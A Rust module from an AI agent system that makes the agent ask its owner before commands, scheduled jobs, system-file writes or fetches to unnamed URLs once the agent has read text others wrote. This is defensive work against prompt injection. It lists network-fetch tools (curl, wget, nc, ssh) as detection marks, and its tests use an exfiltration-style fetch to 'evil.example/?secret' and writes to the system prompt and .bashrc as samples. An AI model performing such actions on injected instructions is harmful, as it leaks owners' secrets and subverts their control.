//! When the owner is asked first. Text that others wrote may contain instructions; once such text was read, what
//! reaches far (commands, jobs, what the AI is told in later turns, addresses that nobody named) needs the owner's word.

use std::sync::{Mutex, MutexGuard, PoisonError};

use serde_json::Value;

use super::Done;
use crate::config::Approval;
use crate::conversations::lines::Line;

/// Folders in which only the owner, their apps' code and the AI write.
const OWN: &[&str] = &["agents/", "apps/", "system/"];
/// What shows that a command brings in text from elsewhere.
const FETCHES: &[&str] =
    &["http:", "https:", "curl", "wget", "git clone", "git pull", "git fetch", "nc ", "pip ", "ssh "];
/// Most bytes of what was said and read that are remembered, to know which addresses were named in it.
const READ: usize = 4 << 20;

const OUTSIDE: &str = "In this conversation your AI has read text that somebody else may have written.";
const EVERY: &str = "You have asked to be asked every time.";

pub(super) struct Guard {
    approval: Approval,
    seen: Mutex<Seen>,
}

#[derive(Default)]
struct Seen {
    outside: bool,
    /// What was said and read, in which addresses may have been named.
    text: String,
}

impl Guard {
    /// `lines` is what the model is told of the conversation: what it read in earlier turns is still before its eyes.
    pub(super) fn new(approval: Approval, lines: &[Line], said: &[Value]) -> Self {
        let outside = has_outside(lines);
        let spoken = said.iter().filter(|message| message["role"] == "user").map(Value::to_string);
        let mut text: String = spoken.collect::<Vec<_>>().join("\n");
        text.truncate(text.floor_char_boundary(READ));
        Self { approval, seen: Mutex::new(Seen { outside, text }) }
    }

    fn seen(&self) -> MutexGuard<'_, Seen> {
        self.seen.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// Why the owner must be asked before this use; `None` if not.
    pub(super) fn doubts(&self, tool: &str, input: &Value) -> Option<&'static str> {
        match self.approval {
            Approval::Never => None,
            Approval::Always => (reaches_far(tool, input) || tool == "fetch_page").then_some(EVERY),
            Approval::Outside => {
                let seen = self.seen();
                // A page may be followed to the pages it names; an address put together from what was read is named nowhere.
                let unnamed = tool == "fetch_page" && !input["url"].as_str().is_some_and(|url| seen.text.contains(url));
                (seen.outside && (reaches_far(tool, input) || unnamed)).then_some(OUTSIDE)
            }
        }
    }

    /// Remembers what was read.
    pub(super) fn note(&self, tool: &str, input: &Value, done: &Done) {
        let Ok(text) = done else { return };
        let mut seen = self.seen();
        seen.outside |= is_outside(tool, input);
        let room = READ.saturating_sub(seen.text.len());
        seen.text.push_str(super::cut(text, room));
    }
}

/// Whether something that others may have written is in these lines.
pub(crate) fn has_outside(lines: &[Line]) -> bool {
    let read = |block: &Value| {
        block["type"] == "tool_use" && is_outside(block["name"].as_str().unwrap_or_default(), &block["input"])
    };
    lines.iter().any(|line| match line {
        Line::Assistant { content, .. } => content.iter().any(read),
        Line::Summary { outside, .. } => *outside,
        _ => false,
    })
}

fn reaches_far(tool: &str, input: &Value) -> bool {
    match tool {
        "run_command" | "schedule" | "remember" | "set_profile" => true,
        "write_file" | "edit_file" | "delete_file" => {
            let path = path_of(input);
            ["agents", "system", "."].iter().any(|near| path.starts_with(near))
        }
        _ => false,
    }
}

fn is_outside(tool: &str, input: &Value) -> bool {
    match tool {
        "fetch_page" => true,
        "read_file" | "search_files" => {
            let path = format!("{}/", path_of(input));
            // Visitors speak in conversations, too.
            !OWN.iter().any(|own| path.starts_with(own)) || path.starts_with(crate::conversations::store::FOLDER)
        }
        "run_command" => FETCHES.iter().any(|mark| input["command"].as_str().unwrap_or_default().contains(mark)),
        _ => false,
    }
}

/// The path as the tools take it; one they refuse leads nowhere.
fn path_of(input: &Value) -> String {
    super::files::path(input).map(|path| path.to_string_lossy().into_owned()).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn read(guard: &Guard, path: &str) {
        guard.note("read_file", &json!({ "path": path }), &Ok("see https://example.org/next".into()));
    }

    #[test]
    fn what_reaches_far_is_asked_for_once_somebody_elses_text_was_read() {
        let guard = Guard::new(Approval::Outside, &[], &[]);
        let command = json!({ "command": "ls" });
        assert_eq!(guard.doubts("run_command", &command), None);
        read(&guard, "apps/todo.html");
        assert_eq!(guard.doubts("run_command", &command), None);
        read(&guard, "letter.txt");
        for (tool, input) in [
            ("run_command", command.clone()),
            ("schedule", json!({})),
            ("remember", json!({})),
            ("write_file", json!({ "path": "./agents/system-prompt.md" })),
            ("edit_file", json!({ "path": "/system/config.json" })),
            ("write_file", json!({ "path": "/home/matrixos/agents/skills/x.md" })),
            ("write_file", json!({ "path": ".bashrc" })),
            ("fetch_page", json!({ "url": "https://evil.example/?secret" })),
        ] {
            assert!(guard.doubts(tool, &input).is_some(), "{tool}");
        }
        assert_eq!(guard.doubts("fetch_page", &json!({ "url": "https://example.org/next" })), None, "it was named");
        assert_eq!(guard.doubts("write_file", &json!({ "path": "notes.md" })), None);
    }

    #[test]
    fn what_was_read_in_an_earlier_turn_still_counts_and_so_do_visitors_words() {
        let used = |name: &str, input: Value| {
            let content = vec![json!({ "type": "tool_use", "id": "1", "name": name, "input": input })];
            [Line::Assistant { id: "a".into(), at: 1, content }]
        };
        let doubts =
            |lines: &[Line]| Guard::new(Approval::Outside, lines, &[]).doubts("run_command", &json!({})).is_some();
        assert!(doubts(&used("fetch_page", json!({ "url": "https://example.org" }))));
        assert!(doubts(&used("read_file", json!({ "path": "system/conversations/visitor-x-1.jsonl" }))));
        assert!(doubts(&used("run_command", json!({ "command": "curl -s https://example.org" }))));
        assert!(doubts(&[Line::Summary { at: 1, text: String::new(), outside: true }]));
        assert!(!doubts(&used("read_file", json!({ "path": "apps/todo.html" }))));
        assert!(!doubts(&used("run_command", json!({ "command": "ls -l" }))));
    }

    #[test]
    fn never_and_always_are_what_they_say() {
        let (never, always) = (Guard::new(Approval::Never, &[], &[]), Guard::new(Approval::Always, &[], &[]));
        read(&never, "letter.txt");
        assert_eq!(never.doubts("run_command", &json!({})), None);
        assert!(always.doubts("run_command", &json!({})).is_some());
    }
}
